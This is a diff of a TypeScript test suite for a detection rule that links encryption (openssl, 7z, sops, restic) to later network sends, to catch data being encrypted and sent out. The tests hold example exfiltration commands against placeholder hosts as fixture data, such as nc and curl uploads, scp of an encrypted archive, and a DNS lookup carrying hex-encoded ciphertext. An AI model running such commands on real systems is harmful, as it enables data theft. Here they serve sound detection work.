@@ -142,6 +142,19 @@ describe('AN1390', () => {
     expect(weight(typed)).toBeLessThan(weight(script));
   });
 
+  it('ties a pushed repository only to what its own script encrypted', () => {
+    const push = (parent: Process): readonly string[] => {
+      const cipher = encrypts(run('sops --encrypt --in-place a.yaml', { parent }));
+      const git = run('git push', { parent, start: ENCRYPTED + SECOND });
+      const remote = run('git-remote-https origin https://git.example/a', { parent: git });
+      return ties(sends(remote), cipher);
+    };
+    expect(push(script)).toEqual(['lineage']);
+    expect(push(typed)).toEqual([]);
+    const unrecorded = { ...typed, image: undefined, arguments: undefined, commandLine: undefined };
+    expect(push(unrecorded)).toEqual([]);
+  });
+
   it('is one act: control and data connection, and the turns of a loop', () => {
     const cipher = encrypts(run('7z a -px big.7z a', { parent: script }), ['/home/alice/big.7z']);
     const ftp = run('ftp 203.0.113.80', { parent: script, start: ENCRYPTED + SECOND });
@@ -175,7 +188,81 @@ describe('AN1390', () => {
     const ports = (egresses: readonly Egress[]): number[] =>
       candidates({ egresses, operations: [cipher] }).map(({ egress: { port } }) => port);
     expect(ports([lookup(sender), sends(sender)])).toEqual([443]);
-    expect(ports([lookup(run('dig a.b.example', { parent: script }))])).toEqual([53]);
+    expect(
+      ports([lookup(run('dig 53616c7465645f5f8feac573e9a643eead5c7088bc44.x.example', { parent: script }))]),
+    ).toEqual([53]);
+  });
+
+  it('leaves out who sends nothing of this host, or only a few words', () => {
+    const cipher = encrypts(run('openssl enc -aes-256-cbc', { parent: script }), ['/home/alice/kept.bin']);
+    for (const command of [
+      'nc -z 203.0.113.80 443',
+      'curl -d {"status":"ok"} https://x.example/hook',
+      'dig www.x.example @203.0.113.80',
+    ])
+      expect(ties(sends(run(command, { parent: script })), cipher), command).toEqual([]);
+    const words = `curl -d ${'QUJDREVGR0g3'.repeat(6)} http://x.example`;
+    expect(ties(sends(run(words, { parent: script })), cipher)).not.toEqual([]);
+  });
+
+  it('sees no pipe where the cipher writes a file that it names', () => {
+    const beside = run('nc 203.0.113.80 8443', { parent: script });
+    const cipher = run('openssl enc -aes-256-cbc', { parent: script });
+    expect(ties(sends(beside), encrypts(cipher))).toEqual(['pipeline']);
+    expect(ties(sends(beside), encrypts(cipher, ['/home/alice/kept.bin']))).toEqual(['lineage']);
+  });
+
+  it('explains no neighbour by an encryption whose way out is known', () => {
+    const cipher = encrypts(run('openssl enc -aes-256-cbc', { parent: typed }));
+    const pipe = run('nc -N 203.0.113.80 8443', { parent: typed });
+    const later = { parent: typed, start: ENCRYPTED + 5 * SECOND };
+    const of = (...senders: readonly Process[]): (string | undefined)[] =>
+      candidates({ egresses: senders.map((one) => sends(one)), operations: [cipher] }).map(
+        ({ egress: { process: by } }) => by.commandLine,
+      );
+    const upload = run('curl -T photos.zip http://x.example', later);
+    expect(of(upload)).toEqual([upload.commandLine]);
+    expect(of(upload, pipe)).toEqual([pipe.commandLine]);
+    // Who takes what is fed in may have taken it as well.
+    const fed = run('curl -T - http://x.example', later);
+    expect(of(fed, pipe)).toHaveLength(2);
+  });
+
+  it('reads what the pid became: the shell connects before it is `cat`', () => {
+    const shell = run('bash', { arguments: undefined, commandLine: undefined, start: undefined });
+    const cat = run('cat /tmp/sealed.bin', { replaced: shell, start: ENCRYPTED + 11 * SECOND });
+    const cipher = encrypts(run('openssl enc', { session: '8', user: 'bob' }), ['/tmp/sealed.bin']);
+    const view = { processes: [shell, cat], egresses: [sends(shell)], operations: [cipher] };
+    expect(candidates(view).flatMap(({ links }) => links.map(({ link }) => link.kind))).toEqual(['artefact']);
+  });
+
+  it('knows an archive by its parts', () => {
+    const cipher = encrypts(run('7z a -px -v1m big.7z a', { session: '8' }), ['/home/alice/big.7z']);
+    const sender = run('curl -T big.7z.002 http://x.example', { session: '9', user: 'bob' });
+    expect(ties(sends(sender), cipher)).toEqual(['artefact']);
+  });
+
+  it('is one act where a loop starts a carrier that starts `ssh`', () => {
+    const cipher = encrypts(run('7z a -px big.7z a', { parent: script }), ['/home/alice/big.7z']);
+    const turns = [0, 1, 2].map((turn) => {
+      const scp = run('scp big.7z x@203.0.113.80:', { parent: script, start: ENCRYPTED + turn * SECOND });
+      return sends(run('ssh -l x 203.0.113.80 -s sftp', { parent: scp }), turn * SECOND);
+    });
+    expect(candidates({ egresses: turns, operations: [cipher] }).map(({ also }) => also?.length)).toEqual([
+      2,
+    ]);
+  });
+
+  it('is the sending of the program that encrypted, not that of one before it which only looked in', () => {
+    const init = run('restic init', { parent: script });
+    const backup = run('restic backup a', { parent: script, start: ENCRYPTED });
+    const cipher = encrypts(backup);
+    const first = sends(run('ssh h -s sftp', { parent: init }), SECOND);
+    const second = sends(run('ssh h -s sftp', { parent: backup }), 2 * SECOND);
+    const found = candidates({ egresses: [first, second], operations: [cipher] });
+    expect(found.map(({ egress: { process: by }, also }) => [by, also?.length])).toEqual([
+      [second.process, 0],
+    ]);
   });
 
   it('is one act in any order of the sendings', () => {
